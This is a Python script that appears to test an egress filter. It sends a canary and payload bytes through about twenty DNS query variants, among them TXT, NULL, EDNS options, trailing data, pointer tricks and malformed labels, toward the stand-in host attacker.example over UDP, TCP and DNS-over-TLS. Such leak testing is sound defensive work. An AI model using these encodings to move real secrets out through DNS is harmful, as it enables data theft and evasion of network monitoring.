"""DNS as a channel: dns.py TRANSPORT DESTINATION FAMILY VARIANT"""

import socket
import struct
import sys

from common import *

transport, destination, number, variant = sys.argv[1:5]
family = family_of(number)
address = DESTINATIONS[(destination, int(number))]
port = 15053 if destination == "listener" else 53
allowed = dns_name(*ALLOWED.split("."))
leaking = dns_name(CANARY, "attacker", "example")
option = struct.pack("!HH", 65001, len(BYTES)) + BYTES
edns = b"\0" + struct.pack("!HHIH", 41, 4096, 0, len(option)) + option
text = leaking + struct.pack("!HHIH", 16, 1, 60, len(BYTES) + 1) + bytes([len(BYTES)]) + BYTES

MESSAGES = {
    "name": dns_query(leaking),
    "txt": dns_query(leaking, 16),
    "null": dns_query(leaking, 10),
    "any": dns_query(leaking, 255),
    "https": dns_query(leaking, 65),
    "ptr": dns_query(dns_name(CANARY, "in-addr", "arpa"), 12),
    "allowed-txt": dns_query(dns_name(CANARY, *ALLOWED.split(".")), 16),
    "edns-option": dns_query(allowed, counts=(1, 0, 0, 1), more=edns),
    "trailing": dns_query(allowed, more=BYTES),
    "additional": dns_query(allowed, counts=(1, 0, 0, 1), more=text),
    "answer": dns_query(allowed, counts=(1, 1, 0, 0), more=text),
    "two-questions": dns_query(allowed, counts=(2, 0, 0, 0), more=leaking + struct.pack("!HH", 1, 1)),
    "chaos": dns_query(leaking, 16, klass=3),
    "update": dns_query(leaking, 6, flags=0x2800),
    "notify": dns_query(leaking, 6, flags=0x2000),
    "response-bit": dns_query(leaking, flags=0x8180, counts=(1, 0, 0, 0)),
    "dot-in-label": dns_query(dns_name(CANARY + ".allowed", "example")),
    "dot-in-last-label": dns_query(dns_name(CANARY, "allowed.example")),
    "binary-label": dns_query(dns_name(b"\0\xff" + BYTES, b"allowed", b"example")),
    "pointer": dns_query(b"\x07allowed\xc0\x1d", more=dns_name("example") + BYTES),
    "nul-in-label": dns_query(dns_name(b"allowed\0" + BYTES, b"example")),
}


def ask(message):
    if transport == "udp":
        with socket.socket(family, socket.SOCK_DGRAM) as sock:
            sock.settimeout(TIMEOUT)
            sock.sendto(message, scoped(address, port, interfaces()[0][0]))
            return sock.recv(4096)
    if transport == "dot":
        with tls(connect(family, (address, 853)), None) as sock:
            sock.sendall(struct.pack("!H", len(message)) + message)
            return drain(sock)
    with connect(family, (address, port)) as sock:
        sock.sendall(struct.pack("!H", len(message)) + message)
        return drain(sock)


answer = attempt(f"{transport} {variant}", lambda: ask(MESSAGES[variant]))
if answer:
    notes.append(answer[:80].hex())
finish()
